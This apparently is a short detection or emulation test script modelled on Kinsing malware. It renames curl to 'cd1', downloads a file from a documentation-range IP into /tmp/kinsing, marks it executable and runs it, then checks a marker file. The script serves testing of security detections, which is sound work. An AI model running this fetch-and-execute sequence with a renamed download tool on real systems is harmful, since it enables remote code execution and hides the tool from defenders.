#!/bin/sh
. /opt/case/case.sh

mv /usr/bin/curl /usr/bin/cd1
cd1 -s http://203.0.113.10/programs/marker -o /tmp/kinsing
chmod +x /tmp/kinsing
/tmp/kinsing
test -e /tmp/reached
took_place
